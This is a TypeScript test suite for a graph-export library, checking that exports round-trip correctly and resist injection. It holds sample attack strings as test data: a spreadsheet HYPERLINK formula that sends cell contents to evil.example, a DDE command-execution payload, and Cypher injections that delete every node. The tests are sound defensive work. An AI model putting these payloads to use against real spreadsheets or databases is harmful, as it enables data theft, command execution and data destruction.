import { describe, expect, it } from 'vitest';
import { collectExport, EXPORT_FORMATS, type ExportGraph } from '../../src/export/index.js';
import { cypherString } from '../../src/export/cypher.js';
import { ingestDocument } from '../../src/ingest/ingest.js';
import { seed } from '../graphql/harness.js';
import { testStores } from '../support/stores.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { csvRows, readCsv, readGexf, readGraphml, sorted } from './parse-back.js';
import { DENIAL_QUOTE, disagreeingFollowUp } from './disagreeing-follow-up.js';
import { TRICKY, trickyGraph } from './tricky-graph.js';

/** Renders a graph in every parseable format and reads each back with an independent parser. */
function roundTrips(graph: ExportGraph): Record<string, ExportGraph> {
  return {
    graphml: readGraphml(EXPORT_FORMATS.graphml.render(graph)),
    gexf: readGexf(EXPORT_FORMATS.gexf.render(graph)),
    csv: readCsv(EXPORT_FORMATS['csv-nodes'].render(graph), EXPORT_FORMATS['csv-edges'].render(graph)),
    json: sorted(JSON.parse(EXPORT_FORMATS.json.render(graph))),
  };
}

describe('export formats read back by independent parsers', () => {
  it('keep every value of a graph full of quotes, markup, line breaks and non-Latin text', () => {
    for (const [format, back] of Object.entries(roundTrips(trickyGraph))) {
      expect(back, format).toEqual(sorted(trickyGraph));
    }
  });

  it('neutralise CSV cells a spreadsheet would run as formulas (OWASP), and the values come back whole', () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      "'=already quoted once",
      '-5',
    ];
    const node = trickyGraph.nodes[0];
    const graph: ExportGraph = {
      nodes: formulas.map((name, i) => ({ ...node, id: `person:f${i}`, name, aliases: [name], roles: [name] })),
      edges: [{ ...trickyGraph.edges[1], source: 'person:f0', target: 'person:f1', role: "=cmd|' /C calc'!A0" }],
    };
    const nodesCsv = EXPORT_FORMATS['csv-nodes'].render(graph);
    const edgesCsv = EXPORT_FORMATS['csv-edges'].render(graph);
    // what a spreadsheet sees: no cell begins with a formula character, each such one with a single quote
    const cells = [nodesCsv, edgesCsv].flatMap((csv) => (parseCsv(csv, { record_delimiter: '\r\n' }) as string[][]).flat());
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const names = (parseCsv(nodesCsv, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>).map((r) => r.name);
    expect(names).toEqual(formulas.map((f) => `'${f}`));
    // a semicolon, a separator to some spreadsheets, is quoted, so ";=" never starts a cell of its own
    expect(EXPORT_FORMATS['csv-nodes'].render({ nodes: [{ ...node, name: 'a;=1+1' }], edges: [] })).toContain('"a;=1+1"');
    // the one quote comes off again (README, Exports): every value round-trips, negative numbers included
    expect(csvRows(nodesCsv).map((r) => r.name)).toEqual(formulas);
    expect(readCsv(nodesCsv, edgesCsv)).toEqual(sorted(graph));
  });

  it('write Cypher string literals that cannot be broken out of', () => {
    expect(cypherString(TRICKY)).not.toMatch(/[\n\r\t]/);
    expect(cypherString("a'b\\")).toBe("'a\\'b\\\\'");
    const cypher = EXPORT_FORMATS.cypher.render(trickyGraph);
    // one statement per line: the injected "; MATCH (n) DETACH DELETE n;" stays inside a literal
    expect(cypher.split('\n').filter((l) => l.startsWith('MATCH (n)'))).toEqual([]);
    expect(() =>
      EXPORT_FORMATS.cypher.render({ nodes: [], edges: [{ ...trickyGraph.edges[0], type: 'KNOWS]->() DETACH DELETE (' }] }),
    ).toThrow(/not a relationship type/);
  });
});

for (const testStore of testStores()) {
  describe(`exports of the seeded graph (${testStore.name} store)`, () => {
    it('a neighbourhood, a path and the whole graph survive every format, statuses and citations included', async () => {
      const store = await testStore.open();
      try {
        await seed(store);
        const hood = await collectExport(store, { kind: 'neighbourhood', id: 'person:sergei-duvanov', depth: 1, limit: 200 });
        const ids = hood.nodes.map((n) => n.id);
        expect(ids).toEqual(expect.arrayContaining(['person:sergei-duvanov', 'person:maria-pulman', 'organisation:zarechnoye-prison']));
        const represents = hood.edges.find((e) => e.type === 'REPRESENTS' && e.source === 'person:maria-pulman')!;
        expect(represents.status).toBe('REPORTED');
        expect(represents.citations[0].quote.length).toBeGreaterThan(10);
        expect(represents.citations[0].article.title).toContain('Duvanov');

        const path = await collectExport(store, {
          kind: 'path',
          from: 'person:sergei-duvanov',
          to: 'person:nursultan-nazarbaev',
          maxLength: 4,
        });
        expect(path.nodes.map((n) => n.id)).toEqual(expect.arrayContaining(['person:sergei-duvanov', 'person:nursultan-nazarbaev']));
        const all = await collectExport(store, { kind: 'all', maxNodes: 10_000 });
        expect(all.nodes).toHaveLength(52);
        expect(all.edges.length).toBeGreaterThan(hood.edges.length);
        expect(all.edges.every((e) => e.citations.length > 0 && e.citations.every((c) => c.article.title !== ''))).toBe(true);

        for (const graph of [hood, path, all]) {
          for (const [format, back] of Object.entries(roundTrips(graph))) expect(back, format).toEqual(sorted(graph));
        }

        // a follow-up that denies the REPRESENTS fact and dates the arrest otherwise: both sides survive every format
        await ingestDocument(store, disagreeingFollowUp);
        const disputed = await collectExport(store, { kind: 'neighbourhood', id: 'person:sergei-duvanov', depth: 1, limit: 200 });
        const contested = disputed.edges.find((e) => e.type === 'REPRESENTS' && e.source === 'person:maria-pulman')!;
        expect(contested).toMatchObject({ status: 'ALLEGED', disputed: true });
        expect(contested.citations.map((c) => c.status).sort()).toEqual(['DENIED', 'REPORTED', 'REPORTED']);
        expect(contested.citations.find((c) => c.status === 'DENIED')).toMatchObject({ quote: DENIAL_QUOTE, saidBy: null });
        const arrest = disputed.nodes.find((n) => n.id === 'event:arrest-and-charging-of-sergei-duvanov')!;
        expect(arrest.disputed).toBe(true);
        expect(arrest.dates.map((d) => [d.date, d.citations.length])).toEqual([
          ['2002-10', 1],
          ['2002-11-02', 1],
        ]);
        expect(disputed.nodes.filter((n) => n.type !== 'EVENT').every((n) => n.dates.length === 0 && !n.disputed)).toBe(true);
        for (const [format, back] of Object.entries(roundTrips(disputed))) expect(back, format).toEqual(sorted(disputed));
        await expect(collectExport(store, { kind: 'all', maxNodes: 51 })).rejects.toThrow(/52 entities, more than the 51/);
        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:nobody', depth: 1, limit: 10 })).rejects.toThrow(
          /"person:nobody" does not exist/,
        );
        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:sergei-duvanov', depth: 9, limit: 10 })).rejects.toThrow(
          /depth: must be a whole number between 1 and 4/,
        );
      } finally {
        await store.close();
      }
    }, 120_000);
  });
}
